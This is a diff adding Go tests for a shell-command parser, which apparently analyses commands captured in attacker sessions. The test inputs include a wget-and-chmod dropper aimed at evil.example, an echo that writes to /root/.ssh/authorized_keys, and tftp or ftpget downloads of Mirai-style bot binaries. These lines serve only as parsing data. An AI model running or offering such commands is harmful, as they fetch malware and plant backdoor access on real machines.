@@ -1,0 +1,182 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+	"testing/quick"
+)
+
+func TestParseSimple(t *testing.T) {
+	cmds := Parse("uname -a")
+	if len(cmds) != 1 {
+		t.Fatalf("len = %d", len(cmds))
+	}
+	if cmds[0].Name != "uname" || len(cmds[0].Args) != 1 || cmds[0].Args[0] != "-a" {
+		t.Errorf("cmd = %+v", cmds[0])
+	}
+	if cmds[0].Op != OpNone {
+		t.Errorf("Op = %v", cmds[0].Op)
+	}
+}
+
+func TestParseSeparators(t *testing.T) {
+	cmds := Parse("cd /tmp; wget http://evil.example/x.sh && chmod 777 x.sh | cat || echo fail")
+	if len(cmds) != 5 {
+		t.Fatalf("len = %d: %+v", len(cmds), cmds)
+	}
+	wantOps := []Operator{OpSeq, OpAnd, OpPipe, OpOr, OpNone}
+	wantNames := []string{"cd", "wget", "chmod", "cat", "echo"}
+	for i, c := range cmds {
+		if c.Op != wantOps[i] || c.Name != wantNames[i] {
+			t.Errorf("cmd[%d] = %q op %v, want %q op %v", i, c.Name, c.Op, wantNames[i], wantOps[i])
+		}
+	}
+}
+
+func TestParseQuoting(t *testing.T) {
+	cmds := Parse(`echo 'single; quoted | text' "double && quoted"`)
+	if len(cmds) != 1 {
+		t.Fatalf("quotes split command: %+v", cmds)
+	}
+	if cmds[0].Args[0] != "single; quoted | text" {
+		t.Errorf("single-quoted arg = %q", cmds[0].Args[0])
+	}
+	if cmds[0].Args[1] != "double && quoted" {
+		t.Errorf("double-quoted arg = %q", cmds[0].Args[1])
+	}
+}
+
+func TestParseEscapes(t *testing.T) {
+	cmds := Parse(`echo hello\ world`)
+	if len(cmds[0].Args) != 1 || cmds[0].Args[0] != "hello world" {
+		t.Errorf("escaped space: %+v", cmds[0].Args)
+	}
+}
+
+func TestParseUnterminatedQuote(t *testing.T) {
+	cmds := Parse(`echo 'unterminated`)
+	if len(cmds) != 1 || cmds[0].Args[0] != "unterminated" {
+		t.Errorf("unterminated quote: %+v", cmds)
+	}
+}
+
+func TestParseRedirect(t *testing.T) {
+	cmds := Parse("echo key > /root/.ssh/authorized_keys")
+	if len(cmds) != 1 {
+		t.Fatalf("len = %d", len(cmds))
+	}
+	r := cmds[0].Redirect
+	if r == nil || r.Path != "/root/.ssh/authorized_keys" || r.Append {
+		t.Errorf("redirect = %+v", r)
+	}
+	cmds = Parse("echo key >> file")
+	if cmds[0].Redirect == nil || !cmds[0].Redirect.Append {
+		t.Errorf("append redirect = %+v", cmds[0].Redirect)
+	}
+}
+
+func TestParseBackgroundAsSeq(t *testing.T) {
+	cmds := Parse("sleep 10 & echo done")
+	if len(cmds) != 2 || cmds[0].Op != OpSeq {
+		t.Errorf("background: %+v", cmds)
+	}
+}
+
+func TestParseEmptySegments(t *testing.T) {
+	cmds := Parse(";; ; echo x ;;")
+	if len(cmds) != 1 || cmds[0].Name != "echo" {
+		t.Errorf("empty segments: %+v", cmds)
+	}
+	if Parse("") != nil {
+		t.Error("empty line should parse to nil")
+	}
+}
+
+func TestSplitSegments(t *testing.T) {
+	// The paper's Table 3 methodology: split at ';' and '|'.
+	segs := SplitSegments(`cat /proc/cpuinfo; echo "a;b" | wc -l && uname`)
+	want := []string{"cat /proc/cpuinfo", `echo "a;b"`, "wc -l", "uname"}
+	if len(segs) != len(want) {
+		t.Fatalf("segs = %q", segs)
+	}
+	for i := range want {
+		if segs[i] != want[i] {
+			t.Errorf("seg[%d] = %q, want %q", i, segs[i], want[i])
+		}
+	}
+}
+
+func TestCommandString(t *testing.T) {
+	cmds := Parse("echo abc >> f")
+	if got := cmds[0].String(); got != "echo abc >> f" {
+		t.Errorf("String = %q", got)
+	}
+}
+
+func TestExtractURIs(t *testing.T) {
+	cases := []struct {
+		line string
+		want []string
+	}{
+		{"wget http://evil.example/bot.sh", []string{"http://evil.example/bot.sh"}},
+		{"curl -O https://x.test/a", []string{"https://x.test/a"}},
+		{"tftp -g -r mirai.arm 198.51.100.7", []string{"tftp://198.51.100.7/mirai.arm"}},
+		{"tftp 198.51.100.7 -c get bot.mips", []string{"tftp://198.51.100.7/bot.mips"}},
+		{"ftpget -u anonymous -p pass 203.0.113.9 local.bin remote.bin", []string{"ftp://203.0.113.9/remote.bin"}},
+		{"scp user@203.0.113.9:/tmp/payload .", []string{"scp://user@203.0.113.9/tmp/payload"}},
+		{"busybox wget http://evil.example/b", []string{"http://evil.example/b"}},
+		{"uname -a", nil},
+	}
+	for _, c := range cases {
+		cmds := Parse(c.line)
+		got := ExtractURIs(cmds[0])
+		if len(got) != len(c.want) {
+			t.Errorf("ExtractURIs(%q) = %v, want %v", c.line, got, c.want)
+			continue
+		}
+		for i := range got {
+			if got[i] != c.want[i] {
+				t.Errorf("ExtractURIs(%q)[%d] = %q, want %q", c.line, i, got[i], c.want[i])
+			}
+		}
+	}
+}
+
+// Property: Parse never panics and every parsed command's name contains no
+// separator characters.
+func TestQuickParseRobust(t *testing.T) {
+	f := func(line string) bool {
+		for _, c := range Parse(line) {
+			if strings.ContainsAny(c.Name, ";|&") {
+				return false
+			}
+		}
+		return true
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// Property: SplitSegments returns non-empty trimmed segments.
+func TestQuickSplitSegments(t *testing.T) {
+	f := func(line string) bool {
+		for _, s := range SplitSegments(line) {
+			if s == "" || s != strings.TrimSpace(s) {
+				return false
+			}
+		}
+		return true
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func BenchmarkParse(b *testing.B) {
+	line := `cd /tmp; wget http://evil.example/x.sh && chmod 777 x.sh; ./x.sh | cat /proc/cpuinfo | grep name | wc -l`
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		Parse(line)
+	}
+}
